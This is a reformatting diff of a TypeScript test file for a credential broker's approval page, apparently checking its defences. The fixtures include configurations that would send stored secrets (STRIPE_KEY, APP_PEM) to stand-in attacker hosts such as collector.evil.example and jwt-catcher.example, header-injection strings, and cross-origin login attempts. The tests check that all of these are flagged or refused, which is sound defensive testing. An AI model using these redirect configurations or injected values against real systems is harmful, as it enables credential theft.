@@ -5,7 +5,22 @@
 import { beforeEach, describe, expect, test } from "bun:test";
 import { createApi } from "../../../src/server/app.ts";
 import { createMemoryLogger } from "../../../src/log.ts";
-import { addAgent, addUser, createHarness, createVault, expectNoLeak, headerPairs, HOUR, type Harness, MINUTE, mintScoped, PASSWORD, register, sentinel, setCredential } from "./fixtures.ts";
+import {
+  addAgent,
+  addUser,
+  createHarness,
+  createVault,
+  expectNoLeak,
+  headerPairs,
+  HOUR,
+  type Harness,
+  MINUTE,
+  mintScoped,
+  PASSWORD,
+  register,
+  sentinel,
+  setCredential,
+} from "./fixtures.ts";
 
 let h: Harness;
 let owner: string;
@@ -40,9 +55,16 @@ async function fileOne(extra: Record<string, unknown> = {}) {
 }
 
 /** Sends a request to the page app; records body and headers for leak checks. */
-async function raw(method: string, path: string, opts: { form?: Record<string, string>; cookies?: Record<string, string>; headers?: Record<string, string> } = {}) {
+async function raw(
+  method: string,
+  path: string,
+  opts: { form?: Record<string, string>; cookies?: Record<string, string>; headers?: Record<string, string> } = {},
+) {
   const headers: Record<string, string> = { ...opts.headers };
-  if (opts.cookies) headers.cookie = Object.entries(opts.cookies).map(([k, v]) => `${k}=${v}`).join("; ");
+  if (opts.cookies)
+    headers.cookie = Object.entries(opts.cookies)
+      .map(([k, v]) => `${k}=${v}`)
+      .join("; ");
   if (opts.form) headers["content-type"] = "application/x-www-form-urlencoded";
   const res = await page.request(path, { method, headers, body: opts.form ? new URLSearchParams(opts.form).toString() : undefined });
   const text = await res.text();
@@ -68,7 +90,11 @@ const SAME_ORIGIN = { origin: "http://localhost", "sec-fetch-site": "same-origin
 
 async function signIn(id: number, token: string, pagePath: string, email: string) {
   const { csrf } = await openPage(pagePath);
-  const res = await raw("POST", `/approve/${id}/login`, { form: { token, csrf, email, password: PASSWORD }, cookies: { broker_csrf: csrf }, headers: SAME_ORIGIN });
+  const res = await raw("POST", `/approve/${id}/login`, {
+    form: { token, csrf, email, password: PASSWORD },
+    cookies: { broker_csrf: csrf },
+    headers: SAME_ORIGIN,
+  });
   return { res, csrf, session: cookieValue(res.cookies, "broker_session") };
 }
 
@@ -171,7 +197,12 @@ describe("the approval page", () => {
     await setCredential(h, { token: owner }, "v1", "STRIPE_KEY", sentinel("stripe"));
     await setCredential(h, { token: owner }, "v1", "IDP_ID", sentinel("idp"));
     const res = await propose({
-      services: [{ host: "api.example.com", auth: { type: "oauth2_client_credentials", token_url: "https://collector.evil.example/token", client_id: "IDP_ID", client_secret: "STRIPE_KEY" } }],
+      services: [
+        {
+          host: "api.example.com",
+          auth: { type: "oauth2_client_credentials", token_url: "https://collector.evil.example/token", client_id: "IDP_ID", client_secret: "STRIPE_KEY" },
+        },
+      ],
     });
     expect(res.status).toBe(201);
     const url = new URL(res.body.approval_url);
@@ -182,9 +213,18 @@ describe("the approval page", () => {
     expect(html).toContain("collector.evil.example/token"); // the description names the token endpoint too
     // A GitHub App key signs JWTs that work for every installation: where they go is named as well.
     await setCredential(h, { token: owner }, "v1", "APP_PEM", sentinel("pem"));
-    const gh = await propose({ services: [{ host: "api.github.com", auth: { type: "github_app", app_id: "1", installation_id: "2", private_key: "APP_PEM", api_url: "https://jwt-catcher.example" } }] });
+    const gh = await propose({
+      services: [
+        {
+          host: "api.github.com",
+          auth: { type: "github_app", app_id: "1", installation_id: "2", private_key: "APP_PEM", api_url: "https://jwt-catcher.example" },
+        },
+      ],
+    });
     const ghUrl = new URL(gh.body.approval_url);
-    expect((await raw("GET", `${ghUrl.pathname}${ghUrl.search}`)).text).toContain("This proposal sends your existing credential APP_PEM to a new host, jwt-catcher.example.");
+    expect((await raw("GET", `${ghUrl.pathname}${ghUrl.search}`)).text).toContain(
+      "This proposal sends your existing credential APP_PEM to a new host, jwt-catcher.example.",
+    );
   });
 
   test("hostile agent text renders escaped; a javascript: obtain is refused at creation", async () => {
@@ -224,7 +264,15 @@ describe("the approval page", () => {
       expect(res.status).toBe(403);
     }
     expect((await h.store.proposals.byId(id))?.status).toBe("pending");
-    expect((await raw("POST", `/approve/${id}/login`, { form: { token, csrf, email: "owner@example.com", password: PASSWORD }, cookies: { broker_csrf: csrf }, headers: { origin: "http://evil.example" } })).status).toBe(403);
+    expect(
+      (
+        await raw("POST", `/approve/${id}/login`, {
+          form: { token, csrf, email: "owner@example.com", password: PASSWORD },
+          cookies: { broker_csrf: csrf },
+          headers: { origin: "http://evil.example" },
+        })
+      ).status,
+    ).toBe(403);
   });
 
   test("signing in on the page, then Allow with the value, applies the proposal", async () => {
@@ -239,7 +287,11 @@ describe("the approval page", () => {
     const signedIn = await openPage(pagePath, { broker_session: session!, broker_csrf: csrf });
     expect(signedIn.text).toContain('name="value_NEW_KEY"');
     const value = sentinel("page");
-    const decided = await raw("POST", `/approve/${id}/decide`, { form: { token, csrf, decision: "allow", value_NEW_KEY: value }, cookies: { broker_session: session!, broker_csrf: csrf }, headers: SAME_ORIGIN });
+    const decided = await raw("POST", `/approve/${id}/decide`, {
+      form: { token, csrf, decision: "allow", value_NEW_KEY: value },
+      cookies: { broker_session: session!, broker_csrf: csrf },
+      headers: SAME_ORIGIN,
+    });
     // Post-redirect-get: the decision answers 303 to the page itself, which then says what happened.
     expect(decided.status).toBe(303);
     const location = decided.headers.get("location")!;
@@ -255,7 +307,9 @@ describe("the approval page", () => {
 
   test("the requester by name and role; expiry as a relative time; header auth names its header", async () => {
     const { pagePath } = await fileOne({
-      services: [{ action: "set", host: "api.example.com", description: "Example", auth: { type: "header", token: "NEW_KEY", header: "X-Api-Key", prefix: "Key " } }],
+      services: [
+        { action: "set", host: "api.example.com", description: "Example", auth: { type: "header", token: "NEW_KEY", header: "X-Api-Key", prefix: "Key " } },
+      ],
     });
     const page = await openPage(pagePath);
     expect(page.text).toMatch(/expires <time datetime="[^"]+" title="[^"]+">in 7 days<\/time>/);
@@ -269,7 +323,11 @@ describe("the approval page", () => {
     const { csrf } = await openPage(pagePath);
     const { session } = await signIn(id, token, pagePath, "owner@example.com");
     for (const bad of ["sk-1\r\nX-Injected: yes", "sk-2\nHost: evil.example", "sk-3\u0000"]) {
-      const res = await raw("POST", `/approve/${id}/decide`, { form: { token, csrf, decision: "allow", value_NEW_KEY: bad }, cookies: { broker_session: session!, broker_csrf: csrf }, headers: SAME_ORIGIN });
+      const res = await raw("POST", `/approve/${id}/decide`, {
+        form: { token, csrf, decision: "allow", value_NEW_KEY: bad },
+        cookies: { broker_session: session!, broker_csrf: csrf },
+        headers: SAME_ORIGIN,
+      });
       expect(res.status).toBe(400);
       expect(res.text).toContain("NEW_KEY must");
       expect((await h.store.proposals.byId(id))?.status).toBe("pending");
@@ -279,11 +337,19 @@ describe("the approval page", () => {
   test("a wrong password does not sign in; Deny rejects", async () => {
     const { id, token, pagePath } = await fileOne();
     const { csrf } = await openPage(pagePath);
-    const bad = await raw("POST", `/approve/${id}/login`, { form: { token, csrf, email: "owner@example.com", password: "wrong password 1" }, cookies: { broker_csrf: csrf }, headers: SAME_ORIGIN });
+    const bad = await raw("POST", `/approve/${id}/login`, {
+      form: { token, csrf, email: "owner@example.com", password: "wrong password 1" },
+      cookies: { broker_csrf: csrf },
+      headers: SAME_ORIGIN,
+    });
     expect(bad.status).toBe(403);
     expect(cookieValue(bad.cookies, "broker_session")).toBeUndefined();
     const { session } = await signIn(id, token, pagePath, "owner@example.com");
-    const denied = await raw("POST", `/approve/${id}/decide`, { form: { token, csrf, decision: "deny" }, cookies: { broker_session: session!, broker_csrf: csrf }, headers: SAME_ORIGIN });
+    const denied = await raw("POST", `/approve/${id}/decide`, {
+      form: { token, csrf, decision: "deny" },
+      cookies: { broker_session: session!, broker_csrf: csrf },
+      headers: SAME_ORIGIN,
+    });
     expect(denied.status).toBe(303);
     expect((await openPage(denied.headers.get("location")!, { broker_session: session!, broker_csrf: csrf })).text).toContain("Denied.");
     expect((await h.store.proposals.byId(id))?.status).toBe("rejected");
@@ -294,7 +360,11 @@ describe("the approval page", () => {
     const scoped = await mintScoped(h, { token: owner }, "v1", { role: "admin" });
     for (const principal of [agent.token, scoped.body.token as string]) {
       const { csrf } = await openPage(pagePath);
-      const res = await raw("POST", `/approve/${id}/decide`, { form: { token, csrf, decision: "allow", value_NEW_KEY: "x" }, cookies: { broker_session: principal, broker_csrf: csrf }, headers: SAME_ORIGIN });
+      const res = await raw("POST", `/approve/${id}/decide`, {
+        form: { token, csrf, decision: "allow", value_NEW_KEY: "x" },
+        cookies: { broker_session: principal, broker_csrf: csrf },
+        headers: SAME_ORIGIN,
+      });
       expect(res.status).toBe(403);
     }
     expect((await h.store.proposals.byId(id))?.status).toBe("pending");
